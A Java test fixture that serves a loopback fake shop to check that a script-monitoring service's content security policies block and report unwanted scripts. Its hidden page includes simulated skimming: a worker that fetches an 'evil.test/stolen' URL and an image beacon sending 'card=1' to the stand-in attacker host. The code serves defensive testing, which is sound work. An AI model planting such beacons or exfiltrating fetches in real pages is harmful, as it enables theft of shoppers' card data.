package dev.holdfast.served;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import com.sun.net.httpserver.HttpsConfigurator;
import com.sun.net.httpserver.HttpsServer;
import dev.holdfast.http.ApiRequest;
import dev.holdfast.http.HttpApi;
import dev.holdfast.http.object.ZoneProfile;
import dev.holdfast.http.server.TlsKeys;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLContext;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * A web site as an application would write it: it gets the headers of each page from {@link
 * HttpApi#pageHeaders}, and the site passes reports to {@link HttpApi#handle}. It serves all its
 * hosts, also those of scripts and connections. Thread-safe.
 */
final class MonitoredSite implements AutoCloseable {

  /** The pages are on this host, the rest is elsewhere. */
  static final String SHOP = "shop.example.test";

  static final String CDN = "cdn.example.test";
  static final String BACKEND = "backend.example.test";
  static final String EVIL = "evil.test";

  private static final int PATIENCE_SECONDS = 300;
  private static final String REPORTS = "/cdn-cgi/script_monitor/report";
  private static final String PASSWORD = "only for this test";

  private final HttpApi api;
  private final ZoneProfile zone;
  private final HttpServer server;
  private final ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor();
  private final BlockingQueue<Report> reports = new LinkedBlockingQueue<>();

  /** The content security policy that the site itself has; empty for none. */
  private volatile String ownPolicy = "";

  /**
   * A report of a browser.
   *
   * @param contentType in which format
   * @param blocked URLs that policies did not allow
   */
  record Report(String contentType, Set<String> blocked) {}

  private MonitoredSite(HttpApi api, ZoneProfile zone, HttpServer server) {
    this.api = api;
    this.zone = zone;
    this.server = server;
    server.setExecutor(threads);
    server.createContext("/", this::answer);
    server.start();
  }

  static MonitoredSite start(HttpApi api, ZoneProfile zone) throws IOException {
    return new MonitoredSite(
        api,
        zone,
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0));
  }

  /** Starts one with a certificate that it has made itself. */
  static MonitoredSite startSecure(HttpApi api, ZoneProfile zone, Path directory)
      throws IOException, InterruptedException {
    HttpsServer server =
        HttpsServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    server.setHttpsConfigurator(new HttpsConfigurator(selfSigned(directory.resolve("keys"))));
    return new MonitoredSite(api, zone, server);
  }

  private static SSLContext selfSigned(Path file) throws IOException, InterruptedException {
    Process keytool =
        new ProcessBuilder(
                Path.of(System.getProperty("java.home"), "bin", "keytool").toString(),
                "-genkeypair",
                "-keyalg",
                "EC",
                "-dname",
                "CN=" + SHOP,
                "-ext",
                "SAN=dns:*.example.test",
                "-storepass",
                PASSWORD,
                "-keystore",
                file.toString())
            .redirectErrorStream(true)
            .start();
    String said = new String(keytool.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    if (keytool.waitFor() != 0) {
      throw new IllegalStateException("keytool: " + said);
    }
    return TlsKeys.ofKeyStore(file, PASSWORD.toCharArray());
  }

  /** {@return scheme, host and port} */
  String origin(String host) {
    String scheme = server instanceof HttpsServer ? "https" : "http";
    return scheme + "://" + host + ":" + server.getAddress().getPort();
  }

  /** Gives the site a policy that it sends beside those of the zone. */
  void setOwnPolicy(String policy) {
    ownPolicy = policy;
  }

  /**
   * Waits until all given URLs were reported since the last call.
   *
   * @return the reports
   */
  List<Report> awaitReportsOf(Set<String> urls) throws InterruptedException {
    Set<String> missing = new HashSet<>(urls);
    List<Report> seen = new ArrayList<>();
    while (!missing.isEmpty()) {
      Report report = reports.poll(PATIENCE_SECONDS, TimeUnit.SECONDS);
      if (report == null) {
        throw new AssertionError("not reported: " + missing + "; only " + seen);
      }
      missing.removeAll(report.blocked());
      seen.add(report);
    }
    return seen;
  }

  private void answer(HttpExchange exchange) throws IOException {
    try (exchange) {
      byte[] body = exchange.getRequestBody().readAllBytes();
      switch (exchange.getRequestURI().getPath()) {
        case REPORTS -> takeReport(exchange, body);
        case "/" -> sendPage(exchange, page());
        case "/hidden" -> sendPage(exchange, hiddenPage());
        case "/worker.js" ->
            sendMonitored(
                exchange,
                "text/javascript",
                "importScripts('%s/imported.js'); fetch('%s/stolen').catch(() => {});"
                    .formatted(origin(CDN), origin(EVIL)));
        case "/imported.js", "/framed.js" -> send(exchange, "text/javascript", "self.ran = true;");
        case "/own.js" -> send(exchange, "text/javascript", "window.ownHasRun = true; " + fetch());
        case "/lib.js" -> send(exchange, "text/javascript", "window.libraryHasRun = true;");
        case "/data" -> {
          exchange.getResponseHeaders().set("Access-Control-Allow-Origin", "*");
          send(exchange, "application/json", "{}");
        }
        default -> exchange.sendResponseHeaders(404, -1);
      }
    }
  }

  private String fetch() {
    return "fetch('" + origin(BACKEND) + "/data?session=7').catch(() => {});";
  }

  private String page() {
    return """
    <!doctype html><title>Shop</title>
    <script>window.inlineHasRun = true;</script>
    <script src="/own.js"></script>
    <script src="%s/lib.js"></script>
    """
        .formatted(origin(CDN));
  }

  /** Scripts of a worker and of a frame without an address, and an image that carries data away. */
  private String hiddenPage() {
    return """
    <!doctype html><title>Shop</title>
    <script>
      new Worker('/worker.js');
      new Image().src = '%s/image?card=1';
    </script>
    <iframe srcdoc="<script src='%s/framed.js'></script>"></iframe>
    """
        .formatted(origin(EVIL), origin(CDN));
  }

  private void sendPage(HttpExchange exchange, String page) throws IOException {
    var headers = exchange.getResponseHeaders();
    headers.set("Set-Cookie", "basket=1; Path=/; HttpOnly; SameSite=Strict");
    if (!ownPolicy.isEmpty()) {
      headers.add("Content-Security-Policy", ownPolicy);
    }
    sendMonitored(exchange, "text/html; charset=utf-8", page);
  }

  private void sendMonitored(HttpExchange exchange, String type, String text) throws IOException {
    var headers = exchange.getResponseHeaders();
    headers.set("Content-Type", type);
    String host = exchange.getRequestHeaders().getFirst("Host");
    String url = origin(host.split(":", 2)[0]) + exchange.getRequestURI();
    ApiRequest request = request(exchange, url, new byte[0]);
    api.pageHeaders(zone.id(), request, Map.copyOf(headers))
        .forEach(header -> headers.add(header.name(), header.value()));
    send(exchange, type, text);
  }

  private void takeReport(HttpExchange exchange, byte[] body) throws IOException {
    var answer = api.handle(request(exchange, REPORTS, body));
    answer.headers().forEach(exchange.getResponseHeaders()::set);
    exchange.sendResponseHeaders(answer.status(), -1);
    if (exchange.getRequestMethod().equals("POST")) {
      // Only now that it is stored.
      reports.add(report(exchange.getRequestHeaders().getFirst("Content-Type"), body));
    }
  }

  private static Report report(String contentType, byte[] body) {
    Set<String> blocked = new HashSet<>();
    JsonNode tree = new JsonMapper().readTree(body);
    tree.findValues("blocked-uri").forEach(url -> blocked.add(url.stringValue()));
    tree.findValues("blockedURL").forEach(url -> blocked.add(url.stringValue()));
    return new Report(contentType, blocked);
  }

  private static ApiRequest request(HttpExchange exchange, String path, byte[] body) {
    Map<String, List<String>> headers = new HashMap<>();
    exchange
        .getRequestHeaders()
        .forEach((name, values) -> headers.put(name.toLowerCase(Locale.ROOT), values));
    String query = exchange.getRequestURI().getRawQuery();
    return new ApiRequest(
        exchange.getRequestMethod(),
        path,
        query == null ? "" : query,
        headers,
        ByteBuffer.wrap(body));
  }

  private static void send(HttpExchange exchange, String type, String text) throws IOException {
    byte[] body = text.getBytes(StandardCharsets.UTF_8);
    exchange.getResponseHeaders().set("Content-Type", type);
    exchange.sendResponseHeaders(200, body.length);
    exchange.getResponseBody().write(body);
  }

  @Override
  public void close() {
    server.stop(0);
    threads.close();
  }
}
